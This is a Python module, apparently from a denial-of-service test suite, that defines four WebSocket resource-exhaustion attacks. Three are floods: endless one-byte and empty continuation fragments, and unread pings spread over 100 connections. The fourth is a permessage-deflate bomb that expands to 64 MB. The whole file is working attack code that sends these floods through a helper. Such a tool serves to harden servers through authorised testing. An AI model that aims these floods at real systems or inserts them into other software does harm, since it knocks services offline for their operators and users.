"""WebSocket frames that cost more than they bring: RFC 6455, 5, and RFC 7692."""

from __future__ import annotations

import struct
import zlib

from attack import Attack, Target
from flooding import flood

HANDSHAKE = (
    b"GET /socket HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n")
CONTINUATION, TEXT, BINARY, PING = 0, 1, 2, 9
BOMB_SIZE = 64 << 20


def frame(opcode: int, payload: bytes = b"", final: bool = True, compressed: bool = False) -> bytes:
    """Of a client's, with a mask of zeros, which changes nothing."""
    first = 0x80 * final | 0x40 * compressed | opcode
    if len(payload) < 126:
        size = bytes([0x80 | len(payload)])
    elif len(payload) < 1 << 16:
        size = b"\xfe" + struct.pack(">H", len(payload))
    else:
        size = b"\xff" + struct.pack(">Q", len(payload))
    return bytes([first]) + size + bytes(4) + payload


def deflated(size: int) -> bytes:
    """So many zeros, as RFC 7692, 7.2.1, has it: without the end that every block has."""
    compressor = zlib.compressobj(9, wbits=-15)
    return (compressor.compress(bytes(size)) + compressor.flush(zlib.Z_SYNC_FLUSH))[:-4]


def fragments(target: Target) -> str:
    more = frame(CONTINUATION, b"a", final=False) * 2000
    return flood(target, HANDSHAKE + frame(TEXT, b"a", final=False), lambda _: more)


def empty_fragments(target: Target) -> str:
    more = frame(CONTINUATION, final=False) * 2000
    return flood(target, HANDSHAKE + frame(TEXT, final=False), lambda _: more)


def pings(target: Target) -> str:
    return flood(target, HANDSHAKE, lambda _: frame(PING, b"a" * 125) * 100, at_once=100, reads=False)


def deflate_bomb(target: Target) -> str:
    message = frame(BINARY, deflated(BOMB_SIZE), compressed=True)
    return flood(target, HANDSHAKE, lambda _: message)


ATTACKS = [
    Attack("websocket-fragments", "messages in fragments of one byte", fragments, "streams"),
    Attack("websocket-empty-fragments", "a message in fragments of nothing, without end", empty_fragments, "streams"),
    Attack("websocket-pings", "pings on 100 connections, whose answers nobody reads", pings, "streams"),
    Attack("websocket-deflate-bomb", f"messages of 64 KB that are {BOMB_SIZE >> 20} MB when they are decompressed",
           deflate_bomb, "streams"),
]
